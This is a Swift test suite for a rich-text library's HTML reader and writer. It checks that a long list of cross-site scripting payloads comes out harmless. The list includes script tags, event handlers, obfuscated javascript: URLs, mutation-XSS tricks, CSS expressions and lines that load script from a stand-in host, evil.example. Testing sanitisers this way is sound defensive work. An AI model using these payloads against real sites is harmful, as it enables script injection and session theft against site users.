import Formats
import RichText
import Testing

@Suite("Hostile HTML")
struct HTMLSafetyTests {
    /// What runs, loads or reaches out in a page that takes HTML as it comes.
    static let payloads = [
        "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "<SCRIPT>alert(1)</SCRIPT>",
        "<script>alert(1)", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script/xss>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=x OnErRoR =alert(1)>",
        "<img src='x'onerror=alert(1)>", "<img src=\"javascript:alert(1)\">", "<img src=x onerror\n=\nalert(1)>",
        "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x></svg>",
        "<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math href='javascript:alert(1)'>x</math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<a href='javascript:alert(1)'>x</a>", "<a href=' javascript:alert(1)'>x</a>",
        "<a href='JaVaScRiPt:alert(1)'>x</a>", "<a href='java\tscript:alert(1)'>x</a>",
        "<a href='java\nscript:alert(1)'>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>",
        "<a href='&#x6A&#x61vascript:alert(1)'>x</a>", "<a href='javascript&colon;alert(1)'>x</a>",
        "<a href='java&Tab;script:alert(1)'>x</a>", "<a href='\u{1}javascript:alert(1)'>x</a>",
        "<a href='\u{A0}javascript:alert(1)'>x</a>", "<a href='\u{200B}javascript:alert(1)'>x</a>",
        "<a href='java\u{0}script:alert(1)'>x</a>", "<a href='vbscript:msgbox(1)'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
        "<a href='file:///etc/passwd'>x</a>", "<a href='view-source:javascript:alert(1)'>x</a>",
        "<a href='blob:https://e.org/x'>x</a>", "<a href='https://e.org' ping='https://evil.example'>x</a>",
        "<iframe src='javascript:alert(1)'></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data='javascript:alert(1)'></object>", "<embed src='javascript:alert(1)'>",
        "<applet code=x.class></applet>", "<base href='javascript:alert(1)//'><a href='x'>y</a>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<link rel=stylesheet href='javascript:alert(1)'>",
        "<link rel=import href='//evil.example'>", "<style>@import 'javascript:alert(1)';</style>",
        "<style>p{background:url(javascript:alert(1))}</style><p>x</p>",
        "<div style='background:url(javascript:alert(1))'>x</div>", "<div style='width:expression(alert(1))'>x</div>",
        "<div style='-moz-binding:url(//evil.example/x.xml#xss)'>x</div>", "<div style='behavior:url(x.htc)'>x</div>",
        "<b style='color:red;font-family:\"x\\22 onmouseover=alert(1)\"'>x</b>",
        "<span style=\"font-family:'&quot;><img src=x onerror=alert(1)>'\">x</span> and more plain text",
        "<input onfocus=alert(1) autofocus>", "<select onfocus=alert(1)><option>x", "<textarea onfocus=alert(1)>x",
        "<keygen onfocus=alert(1)>", "<video><source onerror=alert(1)></video>",
        "<video src=x onerror=alert(1)></video>",
        "<video poster='javascript:alert(1)'></video>", "<audio src='javascript:alert(1)'></audio>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>", "<marquee onstart=alert(1)>x</marquee>",
        "<body onload=alert(1)>x</body>",
        "<form action='javascript:alert(1)'><button formaction='javascript:alert(1)'>x",
        "<isindex action='javascript:alert(1)' type=image>",
        "<table background='javascript:alert(1)'><tr><td>x</table>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<!--><img src=x onerror=alert(1)>-->", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml version='1.0'?><script>alert(1)</script>",
        "<template><script>alert(1)</script></template>", "<xmp><img src=x onerror=alert(1)></xmp>",
        "<plaintext><script>alert(1)</script>", "<title><img src=x onerror=alert(1)></title>",
        "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
        "<img alt='\"><script>alert(1)</script>' src=https://e.org/x>",
        "<a href=\"https://e.org/&quot;onmouseover=&quot;alert(1)\">x</a>",
        "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
        "<img src='data:text/html;base64,PHNjcmlwdD4='>", "<img srcset='javascript:alert(1) 1x' src=https://e.org/x>",
        "<image src=x onerror=alert(1)>", "<p lang='\"><script>alert(1)</script>'>x</p>",
        "<pre><code class='language-\"><script>alert(1)</script>'>x</code></pre>",
        "<li id='fn-\"><script>'><a href='#fnref-\"><script>'>x</a>",
    ]

    /// Every tag of a piece of HTML, as the writer writes them: quoted values, escaped text.
    private func tags(in html: String) -> [String] {
        html.split(separator: "<", omittingEmptySubsequences: true).map { part in
            String(part.prefix { $0 != ">" })
        }
    }

    private static let elements: Set<String> = [
        "meta", "p", "h1", "h2", "h3", "h4", "h5", "h6", "br", "wbr", "strong", "em", "u", "s", "code", "mark", "sup",
        "sub", "a", "ul", "ol", "li", "blockquote", "pre", "table", "thead", "tbody", "tr", "th", "td", "hr", "img",
        "span", "div", "section", "video", "audio",
    ]

    @Test("Neither the HTML nor the text's addresses contain anything executable", arguments: payloads)
    func payload(html: String) throws {
        let text = try HTMLReader().read(Array(html.utf8), .standard)
        for run in text.runs {
            if let link = run.attributes.link { #expect(isHarmless(link.destination)) }
            if case .media(let media)? = run.attributes.attachment, case .reference(let address) = media.source {
                #expect(address.isEmpty || isHarmless(address))
            }
        }
        let written = String(decoding: HTMLWriter().write(text, .standard), as: UTF8.self)
        for tag in tags(in: written) {
            let name = tag.drop { $0 == "/" }.prefix { $0 != " " }
            #expect(Self.elements.contains(String(name)), "\(tag)")
            let unquoted = tag.split(separator: "\"", omittingEmptySubsequences: false).enumerated()
                .filter { $0.offset % 2 == 0 }.map(\.element).joined()
            #expect(!unquoted.lowercased().contains(" on"), "\(tag)")
        }
    }

    private func isHarmless(_ address: String) -> Bool {
        let head = address.prefix { $0 != "/" && $0 != "?" && $0 != "#" }
        guard head.contains(":") else { return true }
        return ["http:", "https:", "mailto:"].contains { address.hasPrefix($0) }
    }

    @Test("Text that looks like markup stays text")
    func escapes() throws {
        var builder = AttributedText.Builder()
        builder.append("<script>alert(1)</script> & \"quotes\" &amp;")
        let text = builder.finish()
        let html = HTMLWriter().write(text, .standard)
        #expect(!String(decoding: html, as: UTF8.self).contains("<script"))
        #expect(try HTMLReader().read(html, .standard) == text)
    }

    @Test("The writer drops harmful addresses that a program put into a text")
    func writerChecks() {
        var builder = AttributedText.Builder()
        builder.append("x", Attributes(link: Link("javascript:alert(1)")))
        builder.append(.media(Media(source: .reference("file:///etc/passwd"), alternative: "alt")))
        let html = String(decoding: HTMLWriter().write(builder.finish(), .standard), as: UTF8.self)
        #expect(html == "<meta charset=\"utf-8\"><p>xalt</p>")
    }
}
